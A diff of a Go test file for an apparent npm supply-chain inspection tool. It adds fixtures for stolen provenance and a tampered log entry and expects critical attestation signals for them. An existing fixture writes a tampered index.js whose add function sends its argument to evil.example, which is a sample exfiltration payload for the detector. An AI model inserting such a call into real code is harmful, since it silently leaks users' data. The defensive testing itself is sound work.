@@ -61,6 +61,11 @@ func fixtures(t *testing.T, reg *npmregistrytest.Registry) map[string]inspect.Pa
 	})}, "")
 	add(npmregistrytest.Package{Name: "forged-sig", Version: "3.0.0", BadSignature: true, Files: map[string]string{"index.js": "module.exports = 3\n"}}, "")
 	add(npmregistrytest.Package{Name: "bad-provenance", Version: "1.0.0", Provenance: true, BadProvenance: true, Files: map[string]string{"index.js": "module.exports = 3\n"}}, "")
+	// Provenance from another repository than the package declares, and
+	// one whose log entry records another signature.
+	add(npmregistrytest.Package{Name: "stolen-provenance", Version: "1.0.0", Provenance: true, ProvenanceRepository: "https://github.com/mallory/stolen-provenance",
+		Files: map[string]string{"index.js": "module.exports = 3\n"}}, "")
+	add(npmregistrytest.Package{Name: "relogged", Version: "1.0.0", Provenance: true, TamperedLog: true, Files: map[string]string{"index.js": "module.exports = 3\n"}}, "")
 	add(npmregistrytest.Package{Name: "swapped-archive", Version: "1.0.0", Files: map[string]string{"index.js": "module.exports = 3\n"}},
 		npmregistrytest.Integrity([]byte("what the lockfile pinned")))
 	// An older version by another maintainer, then a fresh one by a stranger.
@@ -71,8 +76,12 @@ func fixtures(t *testing.T, reg *npmregistrytest.Registry) map[string]inspect.Pa
 }
 
 func config(reg *npmregistrytest.Registry, cache string) inspect.Config {
+	root, err := registry.ParseTrustedRoot(reg.TrustedRootJSON())
+	if err != nil {
+		panic(err)
+	}
 	return inspect.Config{Registry: &registry.Client{BaseURL: reg.URL(), Timeout: 10 * time.Second}, Cache: &registry.Cache{Dir: cache},
-		ProvenanceRoots: reg.Roots(), Now: func() time.Time { return now }}
+		TrustedRoot: root, Now: func() time.Time { return now }}
 }
 
 func bySignal(signals []deps.Signal, pkg string) []deps.Signal {
@@ -134,6 +143,8 @@ func TestRun(t *testing.T) {
 		{"traversal", deps.SignalHostileArchive, osv.SeverityCritical, "package/link", 0, "link"},
 		{"forged-sig", deps.SignalBadSignature, osv.SeverityCritical, "", 0, "signature does not verify"},
 		{"bad-provenance", deps.SignalBadAttestation, osv.SeverityCritical, "", 0, "provenance attestation"},
+		{"stolen-provenance", deps.SignalBadAttestation, osv.SeverityCritical, "", 0, "built from https://github.com/mallory/stolen-provenance"},
+		{"relogged", deps.SignalBadAttestation, osv.SeverityCritical, "", 0, "the entry records another signature or signer"},
 		{"swapped-archive", deps.SignalIntegrityMismatch, osv.SeverityCritical, "", 0, "does not match the lockfile's sha512 hash"},
 		{"hijacked", deps.SignalNewVersion, osv.SeverityLow, "", 0, "published 2026-11-30"},
 		{"hijacked", deps.SignalMaintainerChange, osv.SeverityHigh, "", 0, "maintainers added: mallory"},
@@ -198,7 +209,7 @@ func TestInstalledTampered(t *testing.T) {
 			t.Fatal(err)
 		}
 	}
-	write("package.json", `{"_resolved":"added by an old npm","name":"clean-utils","scripts":null,"version":"1.2.3"}`)
+	write("package.json", `{"_resolved":"added by an old npm","name":"clean-utils","repository":{"type":"git","url":"git+https://github.com/acme/clean-utils.git"},"scripts":null,"version":"1.2.3"}`)
 	write("index.js", "'use strict'\nmodule.exports = function add (a, b) {\n  require('https').get('https://evil.example/?' + a)\n  return a + b\n}\n")
 	cfg := config(reg, t.TempDir())
 	cfg.Installed = project
